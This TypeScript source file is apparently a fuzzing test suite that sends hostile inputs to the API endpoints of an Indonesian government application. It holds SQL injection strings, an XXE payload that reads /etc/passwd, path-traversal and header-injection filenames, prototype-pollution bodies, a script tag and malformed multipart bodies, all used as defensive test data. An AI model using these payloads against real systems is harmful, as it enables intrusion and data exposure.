    text('<SQL in local part>', "admin'or'1'='1@desk.go.id"),
    text('<NUL after a valid address>', 'hostile-admin@desk.go.id\u0000'),
    text('<newline after a valid address>', 'hostile-admin@desk.go.id\n'),
    ...lengthValues(field),
  ],
  password: (field) => [
    text('<one character>', 'x'),
    text('<NUL inside>', 'correct horse\u0000battery staple'),
    text('<12 key emoji>', '🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑🔑'),
    text('<right one with trailing space>', 'correct horse battery staple '),
    text('<right one in NFKD>', 'correct horse battery staple'.normalize('NFKD')),
    ...lengthValues(field),
  ],
  uuid: () => [
    text('<nil uuid>', '00000000-0000-0000-0000-000000000000'),
    text('<max uuid>', 'ffffffff-ffff-ffff-ffff-ffffffffffff'),
    text('<unknown, well-formed v4>', '0d1f0c6a-4b7e-4c55-9a51-7a0b3c9d2e11'),
    text('<version 7>', '01890a5d-ac96-774b-bcce-b302099a8057'),
    text('<upper case>', 'C0FFEE00-0000-4000-8000-000000000001'),
    text('<braces>', '{c0ffee00-0000-4000-8000-000000000001}'),
    text('<no dashes>', 'c0ffee00000040008000000000000001'),
    text('<urn:uuid: prefix>', 'urn:uuid:c0ffee00-0000-4000-8000-000000000001'),
    text('<variant bits 0>', 'c0ffee00-0000-4000-0000-000000000001'),
    text('<not hex>', 'g0ffee00-0000-4000-8000-000000000001'),
    text('<one digit short>', 'c0ffee00-0000-4000-8000-00000000001'),
    text('<dashes moved>', 'c0ffee000-000-4000-8000-000000000001'),
    text('<trailing newline>', 'c0ffee00-0000-4000-8000-000000000001\n'),
  ],
  datetime: () => [
    text('<no offset>', '2024-11-27T08:00:00'),
    text('<date only>', '2024-11-27'),
    text('<lower-case t and z>', '2024-11-27t08:00:00z'),
    text('<space for T>', '2024-11-27 08:00:00Z'),
    text('<offset without colon>', '2024-11-27T08:00:00+0800'),
    text('<February 30>', '2024-02-30T00:00:00Z'),
    text('<February 29, no leap year>', '2023-02-29T00:00:00Z'),
    text('<month 13>', '2024-13-01T00:00:00Z'),
    text('<hour 24>', '2024-11-27T24:00:00Z'),
    text('<leap second>', '2016-12-31T23:59:60Z'),
    text('<offset +23:59>', '2024-11-27T08:00:00+23:59'),
    text('<offset +99:99>', '2024-11-27T08:00:00+99:99'),
    text('<year 0000>', '0000-01-01T00:00:00Z'),
    text('<year 0001>', '0001-01-01T00:00:00Z'),
    text('<year 9999 pushed past by its offset>', '9999-12-31T23:59:59-23:59'),
    text('<expanded year +010000>', '+010000-01-01T00:00:00Z'),
    text('<negative year>', '-000001-01-01T00:00:00Z'),
    text('<nanoseconds>', '2024-11-27T08:00:00.123456789Z'),
    text('<1000 fraction digits>', `2024-11-27T08:00:00.${'1'.repeat(1000)}Z`),
    text('<unix seconds>', '1732694400'),
    text('<Indonesian date>', '27 Nop 2024 08.00 WITA'),
  ],
  phone: () => [
    text('<letters>', 'call me maybe'),
    text('<too short>', '0812'),
    text('<plus only>', '+'),
    text('<two plus signs>', '++62 812 3456 7890'),
    text('<30 digits>', '0'.repeat(30)),
    text('<31 digits>', '0'.repeat(31)),
    text('<full-width phone number>', '０８１２３４５６７８９０'),
    text('<Arabic-Indic phone number>', '٠٨١٢٣٤٥٦٧٨٩٠'),
    text('<newline inside>', '0812\n34567890'),
    text('<tel: URI>', 'tel:+6281234567890'),
    text('<extension>', '+62 812-3456-7890 ext. 12'),
    text('<a digit then punctuation>', '0 ....----(((('),
  ],
  spreadsheet: spreadsheetValues,
  geojson: geojsonValues,
  upload: uploadValues,
  date: () => [
    text('<February 30>', '2024-02-30'),
    text('<February 29, no leap year>', '2023-02-29'),
    text('<month 13>', '2024-13-01'),
    text('<month 00>', '2024-00-10'),
    text('<day 00>', '2024-10-00'),
    text('<day 32>', '2024-10-32'),
    text('<year 0000>', '0000-01-01'),
    text('<year 1969>', '1969-12-31'),
    text('<year 9999, last day>', '9999-12-31'),
    text('<five-digit year>', '10000-01-01'),
    text('<one-digit month and day>', '2024-1-5'),
    text('<with a time>', '2024-10-15T00:00:00Z'),
    text('<day-month-year>', '15-10-2024'),
    text('<slashes>', '2024/10/15'),
    text('<full-width digits>', '２０２４-１０-１５'),
    text('<Arabic-Indic digits>', '٢٠٢٤-١٠-١٥'),
    text('<Indonesian date>', '15 Oktober 2024'),
    text('<trailing newline>', '2024-10-15\n'),
    text('<infinity>', 'infinity'),
    text('<epoch>', 'epoch'),
  ],
  boolean: () => [
    json('<"true" as text>', 'true'),
    json('<"false" as text>', 'false'),
    json('<1>', 1),
    json('<0>', 0),
    json('<"ya">', 'ya'),
    json('<[true]>', [true]),
  ],
};

const INT4_MAX = 2_147_483_647;

/** Integers in a JSON body: numbers (wrong types and strings come from the generic values). */
function intBodyValues(field: FieldSpec): HostileValue[] {
  return [
    json('<2^31 - 1>', INT4_MAX),
    json('<2^31, past a PostgreSQL integer>', INT4_MAX + 1),
    json('<2^32 + 1>', 2 ** 32 + 1),
    json('<2^53>', 2 ** 53),
    rawJson('<2^53 + 1>', '9007199254740993'),
    rawJson('<1e21>', '1e21'),
    rawJson('<1.0>', '1.0'),
    rawJson('<1E0>', '1E0'),
    text('<digits in a string "7">', '7'),
    ...(field.max !== undefined ? [json('<max + 1>', field.max + 1)] : []),
    ...(field.min !== undefined ? [json('<min - 1>', field.min - 1)] : []),
  ];
}

/** The values of `values` with these labels, in this order; a label that is not there is a mistake in this file. */
function pick(values: readonly HostileValue[], labels: readonly string[]): HostileValue[] {
  return labels.map((label) => {
    const found = values.find((v) => v.label === label);
    if (!found) throw new Error(`no hostile value labelled ${label}`);
    return found;
  });
}

/** Generic values that every field receives, however many fields its endpoint has. */
const CORE_STRING_VALUES = pick(GENERIC_STRING_VALUES, [
  '<empty>', '<spaces>', '<100 kB string>', '<lone high surrogate>', '<NUL>', '<invalid UTF-8 %FF%FE>', "<SQL ' OR 1=1 -->", '<LIKE %>',
  '<script tag>', '"__proto__"', '"constructor"', '<../../etc/passwd>', '<lone %00>',
]);
const CORE_WRONG_TYPE_VALUES = pick(WRONG_TYPE_VALUES, ['<number 0>', '<null>', '<array of strings>', '<empty object>', '<object with __proto__>']);

/** An element each list kind accepts, to build list shapes and sizes from. */
const LIST_SAMPLES: Partial<Record<FieldKind, JsonValue>> = { regionCode: '51.06', int: 900_001, text: 'Rapat koordinasi', identifier: 'x', date: '2024-10-15' };

/** The wrong shapes and sizes of a JSON array, around its bounds. */
function listShapeValues(field: FieldSpec): HostileValue[] {
  const sample = LIST_SAMPLES[field.kind] ?? 'x';
  const max = field.list?.maxItems ?? 0;
  const raw = JSON.stringify(sample);
  return [
    json('<a bare element, not a list>', sample),
    json('<empty list>', []),
    json('<list of null>', [null]),
    json('<list in a list>', [[sample]]),
    json('<the element twice>', [sample, sample]),
    json(`<${max} items, the limit>`, Array.from({ length: max }, () => sample)),
    json(`<${max + 1} items, one over>`, Array.from({ length: max + 1 }, () => sample)),
    json('<10 000 items>', Array.from({ length: 10_000 }, () => sample)),
    rawJson('<list with a hole [a,,a]>', `[${raw},,${raw}]`),
    rawJson('<object posing as a list>', `{"length":1,"0":${raw}}`),
  ];
}

/** A hostile value of an element, as a one-element list. */
function inList(hostile: HostileValue): HostileValue {
  const label = `[${hostile.label}]`;
  const { value } = hostile;
  if (value.as === 'text') return rawJson(label, `[${JSON.stringify(value.text)}]`);
  if (value.as === 'json') return json(label, [value.json]);
  if (value.as === 'rawJson') return rawJson(label, `[${value.text}]`);
  return hostile;
}

/** A field's hostile values: its own, which it always receives, and generic ones it may share with the other fields of its endpoint. */
export interface FieldValueSets {
  readonly own: readonly HostileValue[];
  /** Keyed by where the value comes from, so that the same value offered to two fields has the same key. */
  readonly shared: ReadonlyArray<readonly [key: string, value: HostileValue]>;
}

export function fieldValueSets(field: FieldSpec): FieldValueSets {
  const fits = (v: HostileValue) => LOCATIONS[v.value.as].includes(field.in);
  const keyed = (group: string, values: readonly HostileValue[]) => values.map((v, i) => [`${group}:${i}`, v] as const);
  const core = new Set<HostileValue>([...CORE_STRING_VALUES, ...CORE_WRONG_TYPE_VALUES]);
  const shapes = field.in === 'query' ? queryShapeValues(field.name) : [];
  let own: HostileValue[] = [
    ...(field.in === 'path' ? [] : [{ label: '<missing>', value: { as: 'omit' } } satisfies HostileValue]),
    ...CORE_STRING_VALUES,
    ...KIND_VALUES[field.kind](field),
    ...(field.in === 'body' ? [...CORE_WRONG_TYPE_VALUES, text('<1 MB+ string>', 'z'.repeat(OVER_BODY_LIMIT))] : []),
    ...shapes.slice(0, 3),
  ].filter(fits);
  let shared = [
    ...keyed('generic', GENERIC_STRING_VALUES),
    ...(field.in === 'body' ? keyed('wrong type', WRONG_TYPE_VALUES) : []),
    ...keyed('query shape', shapes.slice(3)),
  ].filter(([, v]) => !core.has(v) && fits(v));
  if (field.in === 'file' && field.kind === 'upload') {
    // Generic text would only become CSV cells here (see fileCell): a document is not a sheet.
    return { own: [...own.filter((v) => v.value.as === 'omit'), ...KIND_VALUES.upload(field)], shared: [] };
  }
  if (field.in === 'file') {
    own = own.map(fileCell);
    shared = shared.map(([key, v], i) => [key, fileCell(v, i)] as const);
  }
  if (field.list) {
    own = [...own.filter((v) => v.value.as === 'omit'), ...listShapeValues(field), ...own.filter((v) => v.value.as !== 'omit').map(inList)];
    shared = shared.map(([key, v]) => [key, inList(v)] as const);
  }
  // A kind's value may repeat a generic one: the field gets it once.
  const ownLabels = new Set(own.map((v) => v.label));
  return { own, shared: shared.filter(([, v]) => !ownLabels.has(v.label)) };
}

/** A query parameter given twice, as an array or an object, or without a value. */
function queryShapeValues(name: string): HostileValue[] {
  const pairs = (label: string, value: string): HostileValue => ({ label, value: { as: 'pairs', text: value } });
  return [
    pairs(`<twice: ${name}=1&${name}=2>`, `${name}=1&${name}=2`),
    pairs(`<twice, second hostile>`, `${name}=1&${name}=%27%20OR%201%3D1%20--`),
    pairs(`<array: ${name}[]=a>`, `${name}%5B%5D=a`),
    pairs(`<array brackets unencoded: ${name}[]=a&${name}[]=b>`, `${name}[]=a&${name}[]=b`),
    pairs(`<object: ${name}[admin]=true>`, `${name}[admin]=true`),
    pairs(`<no value: ${name}>`, name),
    pairs(`<empty: ${name}=>`, `${name}=`),
    pairs(`<1000 copies>`, Array.from({ length: 1000 }, () => `${name}=1`).join('&')),
  ];
}

/** Writes a hostile value into a field of a draft. */
export function setField(draft: DraftRequest, field: FieldSpec, value: FieldValue): DraftRequest {
  switch (field.in) {
    case 'path': {
      const segment = value.as === 'text' ? encodeURIComponent(value.text) : value.as === 'encoded' ? value.text : '';
      return { ...draft, path: { ...draft.path, [field.name]: segment } };
    }
    case 'query': {
      const others = draft.query.filter((pair) => pair.split('=')[0] !== field.name);
      if (value.as === 'omit') return { ...draft, query: others };
      const pair = value.as === 'pairs' ? value.text
        : value.as === 'encoded' ? `${field.name}=${value.text}`
          : value.as === 'text' ? `${field.name}=${encodeURIComponent(value.text)}` : '';
      return { ...draft, query: [...others, pair] };
    }
    case 'body': {
      if (field.name.includes('.')) return setNestedMember(draft, field.name.split('.'), value);
      const members = (draft.members ?? []).filter(([key]) => key !== field.name);
      if (value.as === 'omit') return { ...draft, members };
      return { ...draft, members: [...members, [field.name, rawJsonOf(value)]] };
    }
    case 'form': {
      const parts = (draft.parts ?? []).filter((part) => part.name !== field.name || part.filename !== undefined);
      if (value.as === 'omit') return { ...draft, parts };
      return { ...draft, parts: [{ name: field.name, content: value.as === 'text' ? value.text : '' }, ...parts] };
    }
    case 'file': {
      const parts = (draft.parts ?? []).filter((part) => part.name !== field.name);
      if (value.as === 'omit') return { ...draft, parts };
      const file = value.as === 'file' ? value.file : { filename: 'units.csv', contentType: 'text/csv', content: value.as === 'text' ? value.text : '' };
      return { ...draft, parts: [...parts, { name: field.name, ...file }] };
    }
  }
}

function rawJsonOf(value: FieldValue): string {
  return value.as === 'text' ? JSON.stringify(value.text) : value.as === 'json' ? JSON.stringify(value.json) : value.as === 'rawJson' ? value.text : 'null';
}

/**
 * Sets (or leaves out) a member inside the example's value of a top-level member, e.g.
 * ["signatories", "0", "name"]. The value goes in as raw JSON text, so that lone surrogates and
 * numbers JSON.stringify cannot write arrive as they are.
 */
function setNestedMember(draft: DraftRequest, [top = '', ...inner]: readonly string[], value: FieldValue): DraftRequest {
  const mark = '\u0000hostile value\u0000';
  const members = draft.members ?? [];
  const whole = JSON.parse(members.find(([key]) => key === top)?.[1] ?? '{}') as JsonValue;
  let holder = whole as Record<string, JsonValue>;
  for (const key of inner.slice(0, -1)) holder = holder[key] as Record<string, JsonValue>;
  const last = inner.at(-1) ?? '';
  if (value.as === 'omit') delete holder[last];
  else holder[last] = mark;
  const raw = JSON.stringify(whole).replace(JSON.stringify(mark), () => rawJsonOf(value));
  return { ...draft, members: members.map(([key, old]) => [key, key === top ? raw : old] as const) };
}

function fieldPayload(field: FieldSpec, hostile: HostileValue): Payload {
  return { label: `${field.in}.${field.name} = ${hostile.label}`, pastSignIn: true, apply: (draft) => setField(draft, field, hostile.value) };
}

/**
 * Into how many turns the fields of an endpoint split the shared generic values: 1 = every field
 * gets every value (the full cross product: about 9,400 cases, 40 s on PGlite); 2 = each value goes
 * to half of the fields that can carry it; a large number = to one field each. Raise it when the
 * suite outgrows its minute rather than leave endpoints out.
 */
const FIELDS_PER_GENERIC_VALUE_DIVISOR = 1;

/**
 * How many fields of a whole family of entries (EndpointSpec.family) receive each shared generic
 * value: the family's entries share their steps up to the service, so a value that one of its text
 * fields survives says much about the others. Every field still gets its kind's own values, but for
 * path parameters: a family parses all of them with one schema (an id), so each value of a kind goes
 * to one of the family's path parameters of that kind, in turn.
 */
const FAMILY_FIELDS_PER_GENERIC_VALUE = 3;

/**
 * The field payloads of one endpoint, sampled (see FIELDS_PER_GENERIC_VALUE_DIVISOR) so that an
 * endpoint with many fields need not multiply its cases. Every field receives its own values
 * (missing, its kind's values and limits, the core generic values); each other generic value goes
 * to a share of the fields that can carry it (at least one), taking the fields in turn. So every
 * value still reaches every endpoint, and the same table always gives the same cases.
 */
export function endpointFieldPayloads(fields: readonly FieldSpec[]): Payload[] {
  const sets = fields.map(fieldValueSets);
  return dealFieldPayloads([fields], sets, (_key, takers) => Math.ceil(takers / FIELDS_PER_GENERIC_VALUE_DIVISOR))[0] ?? [];
}

/**
 * How many of a family's fields of one kind and place (say, the optional free texts of its bodies)
 * receive each core generic value: they pass the same kind of schema and reach the same kind of
 * column, so two of them stand for the rest; each keeps its kind's own values and limits.
 */
const FAMILY_FIELDS_PER_CORE_VALUE = 2;
const CORE_LABELS: ReadonlySet<string> = new Set([...CORE_STRING_VALUES, ...CORE_WRONG_TYPE_VALUES].map((v) => v.label).concat('<1 MB+ string>'));
/** A core generic value, also as the one-element list of a list field. */
const isCore = (v: HostileValue) => CORE_LABELS.has(v.label) || CORE_LABELS.has(v.label.replace(/^\[(.*)\]$/s, '$1'));

/** The field payloads of each entry of a family (see FAMILY_FIELDS_PER_GENERIC_VALUE and FAMILY_FIELDS_PER_CORE_VALUE). */
export function familyFieldPayloads(fieldLists: readonly (readonly FieldSpec[])[]): Payload[][] {
  const sets = fieldLists.flat().map((field): FieldValueSets => {
    const set = fieldValueSets(field);
    if (field.in === 'path') {
      return { own: [], shared: [...set.own, ...set.shared.map(([, v]) => v)].map((v) => [`path ${field.kind} ${v.label}`, v] as const) };
    }
    const sort = `${field.in} ${field.kind}${field.list ? ' list' : ''}`;
    return {
      own: set.own.filter((v) => !isCore(v)),
      shared: [...set.own.filter(isCore).map((v) => [`core ${sort} ${v.label}`, v] as const), ...set.shared],
    };
  });
  return dealFieldPayloads(fieldLists, sets, (key, takers) =>
    Math.min(takers, key.startsWith('path ') ? 1 : key.startsWith('core ') ? FAMILY_FIELDS_PER_CORE_VALUE : FAMILY_FIELDS_PER_GENERIC_VALUE));
}

/**
 * Deals the shared values of `sets` (one per field of the lists, in order) over the fields that can
 * take them, `copies(key, takers)` fields each; every field keeps its own values.
 */
function dealFieldPayloads(
  fieldLists: readonly (readonly FieldSpec[])[], sets: readonly FieldValueSets[], copies: (key: string, takers: number) => number,
): Payload[][] {
  const keys = [...new Set(sets.flatMap((set) => set.shared.map(([key]) => key)))];
  const chosen = new Map<string, ReadonlySet<number>>();
  keys.forEach((key, k) => {
    const takers = sets.flatMap((set, i) => (set.shared.some(([other]) => other === key) ? [i] : []));
    const count = copies(key, takers.length);
    // Every taker in turn when all take it; otherwise spread evenly over them.
    const step = Math.max(1, Math.floor(takers.length / count));
    chosen.set(key, new Set(Array.from({ length: count }, (_, c) => takers[(k + c * step) % takers.length] ?? -1)));
  });
  let first = 0;
  return fieldLists.map((list) => {
    const start = first;
    first += list.length;
    return list.flatMap((field, j) => {
      const set = sets[start + j]!;
      const shared = set.shared.filter(([key]) => chosen.get(key)?.has(start + j)).map(([, v]) => v);
      return [...set.own, ...shared].map((hostile) => fieldPayload(field, hostile));
    });
  });
}

/* ------------------------------------------------------------------------------------------------
 * Bodies
 * ---------------------------------------------------------------------------------------------- */

function bodyText(draft: DraftRequest): string {
  return `{${(draft.members ?? []).map(([key, raw]) => `${JSON.stringify(key)}:${raw}`).join(',')}}`;
}

const withRawBody = (label: string, body: (draft: DraftRequest) => string | Uint8Array, contentType?: string | null): Payload => ({
  label,
  apply: (draft) => ({ ...draft, rawBody: body(draft), contentType }),
});

const withMember = (label: string, key: string, raw: string): Payload => ({
  label,
  apply: (draft) => ({ ...draft, members: [...(draft.members ?? []), [key, raw]] }),
});

function nested(depth: number): string {
  return `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;
}

/** Malformed JSON, other formats, extra and poisoned members, huge bodies: for endpoints that read a body. */
export function bodyPayloads(): Payload[] {
  const urlEncoded = (draft: DraftRequest) =>
    (draft.members ?? []).map(([key, raw]) => `${encodeURIComponent(key)}=${encodeURIComponent(String(JSON.parse(raw)))}`).join('&');
  return [
    // Extra members.
    withMember('body + role: "admin"', 'role', '"admin"'),
    withMember('body + isAdmin: true', 'isAdmin', 'true'),
    withMember('body + "__proto__": {"admin": true}', '__proto__', '{"admin":true,"polluted":"yes"}'),
    withMember('body + "constructor": {"prototype": {"admin": true}}', 'constructor', '{"prototype":{"admin":true,"polluted":"yes"}}'),
    withMember('body + "prototype": {}', 'prototype', '{"admin":true}'),
    withMember('body + key with NUL', 'a\u0000b', '1'),
    withMember('body + empty key', '', '1'),
    withMember('body + 10 kB key', 'k'.repeat(10 * KB), '1'),
    withRawBody('body = 20 000 extra keys', (d) => bodyText({ ...d, members: [...(d.members ?? []), ...Array.from({ length: 20_000 }, (_, i) => [`k${i}`, '1'] as const)] })),
    withRawBody('body = duplicate keys, last one hostile', (d) => `${bodyText(d).slice(0, -1)}${d.members?.length ? ',' : ''}${(d.members ?? []).map(([k]) => `${JSON.stringify(k)}:{"$gt":""}`).join(',')}}`),
    withRawBody('body = {"__proto__": …} at top level only', () => '{"__proto__":{"admin":true,"polluted":"yes"}}'),
    withRawBody('body = escaped "\\u005f_proto__" key', () => '{"\\u005f_proto__":{"admin":true,"polluted":"yes"}}'),
    withRawBody('body = {"constructor": {"prototype": …}} only', () => '{"constructor":{"prototype":{"admin":true,"polluted":"yes"}}}'),
    // Missing everything.
    withRawBody('body = {}', () => '{}'),
    // Not an object.
    withRawBody('body = null', () => 'null'),
    withRawBody('body = []', () => '[]'),
    withRawBody('body = array of the example', (d) => `[${bodyText(d)}]`),
    withRawBody('body = "a string"', () => '"a string"'),
    withRawBody('body = 0', () => '0'),
    withRawBody('body = true', () => 'true'),
    // Malformed JSON.
    withRawBody('body = <empty, JSON content type>', () => ''),
    withRawBody('body = <whitespace only>', () => ' \n\t '),
    withRawBody('body = {', () => '{'),
    withRawBody('body = <truncated example>', (d) => bodyText(d).slice(0, -3)),
    withRawBody('body = <trailing comma>', (d) => `${bodyText(d).slice(0, -1)},}`),
    withRawBody("body = <single quotes>", () => "{'email':'a@b.c'}"),
    withRawBody('body = <unquoted keys>', () => '{email:"a@b.c"}'),
    withRawBody('body = <comments>', (d) => `/* hi */${bodyText(d)}`),
    withRawBody('body = NaN', () => 'NaN'),
    withRawBody('body = <two objects>', (d) => `${bodyText(d)}${bodyText(d)}`),
    withRawBody('body = <byte order mark then example>', (d) => `\uFEFF${bodyText(d)}`),
    withRawBody('body = <raw NUL byte inside>', (d) => `${bodyText(d).slice(0, 1)}\u0000${bodyText(d).slice(1)}`),
    withRawBody('body = <lone surrogate as raw text>', () => '{"email":"\ud800"}'),
    withRawBody('body = <nested 10 000 deep>', () => nested(10_000)),
    withRawBody('body = <array of 100 000 nulls>', () => `[${Array.from({ length: 100_000 }, () => 'null').join(',')}]`),
    // Size.
    withRawBody('body = <1 MB+ valid JSON>', (d) => bodyText({ ...d, members: [...(d.members ?? []), ['padding', JSON.stringify('p'.repeat(OVER_BODY_LIMIT))]] })),
    withRawBody('body = <1 MB+ garbage>', () => '#'.repeat(OVER_BODY_LIMIT)),
    withRawBody('body = <just under the limit>', (d) => bodyText({ ...d, members: [...(d.members ?? []), ['padding', JSON.stringify('p'.repeat(MB - 4 * KB))]] })),
    // Content types.
    withRawBody('content-type = text/plain (JSON text)', bodyText, 'text/plain'),
    withRawBody('content-type = text/plain; charset=utf-8, <script> text', () => '<script>alert(1)</script>', 'text/plain; charset=utf-8'),
    withRawBody('content-type = application/x-www-form-urlencoded', urlEncoded, 'application/x-www-form-urlencoded'),
    withRawBody(
      'content-type = multipart/form-data',
      () => '--XyZ\r\nContent-Disposition: form-data; name="email"\r\n\r\nhostile-admin@desk.go.id\r\n--XyZ--\r\n',
      'multipart/form-data; boundary=XyZ',
    ),
    withRawBody('content-type = application/xml', () => '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', 'application/xml'),
    withRawBody('content-type = <none>', bodyText, null),
    withRawBody('content-type = application/json; charset=utf-16', bodyText, 'application/json; charset=utf-16'),
    withRawBody('content-type = application/json; charset=latin1', bodyText, 'application/json; charset=latin1'),
    withRawBody('content-type = APPLICATION/JSON', bodyText, 'APPLICATION/JSON'),
    withRawBody('content-type = application/jsonx', bodyText, 'application/jsonx'),
    withRawBody('content-type = application/json;;;', bodyText, 'application/json;;;'),
    withRawBody('content-type = application/vnd.api+json', bodyText, 'application/vnd.api+json'),
    withRawBody('content-type = */*', bodyText, '*/*'),
    withRawBody('content-type = <10 kB>', bodyText, `application/json; x=${'a'.repeat(10 * KB)}`),
    // Lying lengths.
    ...['0', '1', '99999999', '-1', 'abc'].map((length): Payload => ({
      label: `content-length = ${length}`,
      apply: (draft) => ({ ...draft, rawBody: bodyText(draft), headers: { ...draft.headers, 'content-length': length } }),
    })),
  ];
}

/** A body sent where none is read (GET): it must be ignored or refused, not choked on. */
export function bodyOnReadPayloads(): Payload[] {
  return [
    withRawBody('<GET with a JSON body>', () => '{"__proto__":{"admin":true,"polluted":"yes"}}'),
    withRawBody('<GET with malformed JSON>', () => '{'),
    withRawBody('<GET with a 1 MB+ body>', () => '#'.repeat(OVER_BODY_LIMIT)),
  ];
}

/* ------------------------------------------------------------------------------------------------
 * multipart/form-data bodies (uploads)
 * ---------------------------------------------------------------------------------------------- */

const MULTIPART = `multipart/form-data; boundary=${MULTIPART_BOUNDARY}`;
const isFilePart = (part: MultipartPart) => part.filename !== undefined;
const DEFAULT_FILE: MultipartPart = { name: 'file', filename: 'units.csv', contentType: 'text/csv', content: '' };
const fileOf = (draft: DraftRequest): MultipartPart => draft.parts?.find(isFilePart) ?? DEFAULT_FILE;
const fileBytes = (draft: DraftRequest): Buffer => Buffer.from(fileOf(draft).content);
const fileText = (draft: DraftRequest): string => fileBytes(draft).toString('utf8');
const partsOf = (draft: DraftRequest): readonly MultipartPart[] => draft.parts ?? [];

const withParts = (label: string, change: (parts: readonly MultipartPart[]) => MultipartPart[]): Payload => ({
  label,
  apply: (draft) => ({ ...draft, parts: change(partsOf(draft)) }),
});
const onFile = (label: string, change: (part: MultipartPart) => MultipartPart): Payload =>
  withParts(label, (parts) => parts.map((part) => (isFilePart(part) ? change(part) : part)));
/** The file part with its header lines as written. */
const fileHeaders = (label: string, headers: (part: MultipartPart) => string, content?: (part: MultipartPart) => string | Uint8Array): Payload =>
  onFile(label, (part) => ({ ...part, rawHeaders: headers(part), ...(content ? { content: content(part) } : {}) }));
const disposition = (part: MultipartPart) => `Content-Disposition: form-data; name="${part.name}"; filename="${part.filename ?? ''}"`;

/**
 * Broken framing, odd parts and headers, and bodies that are not multipart at all: for upload
 * endpoints, whose handler reads the body after the sign-in check (so these are past it).
 */
export function multipartPayloads(): Payload[] {
  const body = (draft: DraftRequest) => multipartBody(partsOf(draft));
  const closing = Buffer.byteLength(`--${MULTIPART_BOUNDARY}--\r\n`);
  return multipartVariants(body, closing).map((payload) => ({ ...payload, pastSignIn: true }));
}

function multipartVariants(body: (draft: DraftRequest) => Buffer, closing: number): Payload[] {
  return [
    // Parts.
    withParts('multipart: the file under another field name', (parts) => parts.map((part) => (isFilePart(part) ? { ...part, name: 'upload' } : part))),
    withParts('multipart: the same file twice', (parts) => [...parts, ...parts.filter(isFilePart)]),
    withParts('multipart: a second, different file', (parts) => [
      ...parts, { name: 'file', filename: 'evil.csv', contentType: 'text/csv', content: 'agency,region,name\nKPU,99.99,Evil unit\n' },
    ]),
    withParts('multipart: the file as a plain field (no filename)', (parts) => parts.map((part) => (isFilePart(part) ? { name: part.name, content: part.content } : part))),
    withParts('multipart: a text field before the file', (parts) => [{ name: 'note', content: 'catatan' }, ...parts]),
    withParts('multipart: dryRun=false as a field', (parts) => [{ name: 'dryRun', content: 'false' }, ...parts]),
    withParts('multipart: 11 text fields, then the file', (parts) => [...Array.from({ length: 11 }, (_, i) => ({ name: `f${i}`, content: String(i) })), ...parts]),
    withParts('multipart: __proto__ and constructor fields', (parts) => [
      { name: '__proto__', content: '{"admin":true,"polluted":"yes"}' }, { name: 'constructor', content: '{"prototype":{"admin":true}}' }, ...parts,
    ]),
    withParts('multipart: a field name of 10 kB', (parts) => [{ name: 'n'.repeat(10 * KB), content: 'x' }, ...parts]),
    withParts('multipart: no parts at all', () => []),
    withParts('multipart: only a text field', () => [{ name: 'file', content: 'agency,region,name' }]),
    onFile('multipart: filename ../../../etc/passwd', (part) => ({ ...part, filename: '../../../etc/passwd' })),
    onFile('multipart: filename C:\\Windows\\win.ini', (part) => ({ ...part, filename: 'C:\\Windows\\win.ini' })),
    onFile('multipart: empty filename', (part) => ({ ...part, filename: '' })),
    onFile('multipart: filename of 10 kB', (part) => ({ ...part, filename: `${'f'.repeat(10 * KB)}.csv` })),
    onFile('multipart: filename with NUL', (part) => ({ ...part, filename: 'units.csv\u0000.exe' })),
    onFile('multipart: filename with an RTL override', (part) => ({ ...part, filename: 'units\u202Evsc.exe' })),
    onFile('multipart: filename with a quote', (part) => ({ ...part, filename: 'a".csv' })),
    onFile('multipart: header injection in the filename', (part) => ({ ...part, filename: 'units.csv"\r\nContent-Type: text/html\r\nX-Injected: 1' })),
    onFile('multipart: part type application/x-msdownload', (part) => ({ ...part, contentType: 'application/x-msdownload' })),
    onFile('multipart: part type text/html', (part) => ({ ...part, contentType: 'text/html' })),
    onFile('multipart: part type multipart/mixed', (part) => ({ ...part, contentType: 'multipart/mixed; boundary=inner' })),
    fileHeaders('multipart: no part content type', disposition),
    fileHeaders('multipart: RFC 2231 filename*', (part) => `Content-Disposition: form-data; name="${part.name}"; filename*=UTF-8''%E2%80%AE%2e%2e%2fetc%2fpasswd\r\nContent-Type: text/csv`),
    fileHeaders('multipart: no Content-Disposition', () => 'Content-Type: text/csv'),
    fileHeaders('multipart: Content-Disposition without a name', (part) => `Content-Disposition: form-data; filename="${part.filename ?? ''}"`),
    fileHeaders('multipart: name given twice', (part) => `Content-Disposition: form-data; name="other"; name="${part.name}"; filename="units.csv"`),
    fileHeaders('multipart: a 20 kB header line', (part) => `${disposition(part)}\r\nX-Pad: ${'h'.repeat(20 * KB)}`),
    fileHeaders('multipart: 1000 header lines', (part) => [disposition(part), ...Array.from({ length: 1000 }, (_, i) => `X-H${i}: ${i}`)].join('\r\n')),
    fileHeaders(
      'multipart: Content-Transfer-Encoding base64',
      (part) => `${disposition(part)}\r\nContent-Type: text/csv\r\nContent-Transfer-Encoding: base64`,
      (part) => Buffer.from(part.content).toString('base64'),
    ),
    // Framing.
    withRawBody('multipart: no boundary in the content type', body, 'multipart/form-data'),
    withRawBody('multipart: empty boundary', body, 'multipart/form-data; boundary='),
    withRawBody('multipart: a boundary that is not in the body', body, 'multipart/form-data; boundary=something-else'),
    withRawBody('multipart: quoted boundary', body, `multipart/form-data; boundary="${MULTIPART_BOUNDARY}"`),
    withRawBody('multipart: boundary given twice', body, `multipart/form-data; boundary=other; boundary=${MULTIPART_BOUNDARY}`),
    withRawBody('multipart: boundary of 200 characters', (d) => multipartBody(partsOf(d), 'b'.repeat(200)), `multipart/form-data; boundary=${'b'.repeat(200)}`),
    withRawBody('multipart: LF line endings', (d) => multipartBody(partsOf(d), MULTIPART_BOUNDARY, '\n'), MULTIPART),
    withRawBody('multipart: no closing delimiter', (d) => body(d).subarray(0, body(d).length - closing), MULTIPART),
    withRawBody('multipart: cut off inside the file', (d) => body(d).subarray(0, Math.floor(body(d).length * 0.6)), MULTIPART),
    withRawBody('multipart: preamble and epilogue', (d) => Buffer.concat([Buffer.from('preamble junk\r\n'), body(d), Buffer.from('epilogue junk')]), MULTIPART),
    withRawBody('multipart: the closing delimiter only', () => `--${MULTIPART_BOUNDARY}--\r\n`, MULTIPART),
    withRawBody('multipart: empty body', () => '', MULTIPART),
    withRawBody('multipart: 1 MB+ of garbage', () => '#'.repeat(OVER_BODY_LIMIT), MULTIPART),
